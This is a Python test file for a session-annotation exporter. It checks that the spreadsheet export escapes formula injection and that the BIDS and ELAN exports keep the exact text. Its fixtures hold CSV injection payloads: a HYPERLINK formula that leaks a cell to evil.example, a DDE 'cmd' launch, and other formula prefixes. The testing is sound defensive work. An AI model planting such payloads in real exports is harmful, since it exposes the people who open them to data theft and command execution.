"""``markers.csv``: nothing in it is run, and nothing is lost."""

import csv

import pytest

from app.core.spreadsheet import is_formula
from app.session.exporters import export_session, exporters_named
from app.session.exporters.spreadsheet import COLUMNS
from app.session.session import Session
from tests.factories import read_annotations

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ANNOTATIONS = (
    ("start", "", 0.0, 0.2),
    (HOSTILE, "+cmd|' /C calc'!A0", 0.0, 0.4),
    ("'quoted", "-1", 0.25, 0.6),
    ('ä, "b"; c', "@x", 0.0, 0.7),
)


@pytest.fixture(params=[".", ","])
def sign(request, monkeypatch):
    """The decimal sign of the person's system, whichever the machine that runs the tests has."""
    monkeypatch.setattr("app.session.exporters.spreadsheet.decimal_sign", lambda: request.param)
    return request.param


@pytest.fixture
def exported(record, tmp_path, sign):
    session = Session.open(record(annotations=ANNOTATIONS, participant="=P07", task="sitting"))
    (path,) = export_session(session, exporters_named("spreadsheet")[0], tmp_path / "out")
    return session, path


def test_nothing_is_run_and_nothing_is_lost(exported, sign):
    session, path = exported
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file, delimiter=";" if sign == "," else ",")
    assert tuple(head) == COLUMNS
    assert not any(is_formula(field) for row in rows for field in row)
    assert {row[1] for row in rows} == {"'=P07"}
    texts = [tuple(field.removeprefix("'") for field in row[5:7]) for row in rows]
    times = [tuple(float(field.replace(sign, ".")) for field in row[3:5]) for row in rows]
    assert all(sign in field for row in rows for field in row[3:5])
    assert [(*time, *text, int(row[7])) for time, text, row in zip(times, texts, rows, strict=True)] == [
        (annotation.onset_s, annotation.duration_s, annotation.label, annotation.note, annotation.frame)
        for annotation in session.annotations
    ]


def test_the_formats_for_programs_keep_the_exact_text(exported, tmp_path):
    session, _ = exported
    assert [annotation.label for annotation in read_annotations(session.folder / "events.csv")] == [
        annotation[0] for annotation in ANNOTATIONS
    ]
    for exporter in exporters_named("bids,elan"):
        export_session(session, exporter, tmp_path / "out")
    (annotations,) = (tmp_path / "out" / "bids").rglob("*_events.tsv")
    assert "\t" + HOSTILE.replace('"', "'") + "\t" in annotations.read_text(encoding="utf-8")
    assert "=HYPERLINK(" in (tmp_path / "out" / "session.eaf").read_text(encoding="utf-8")
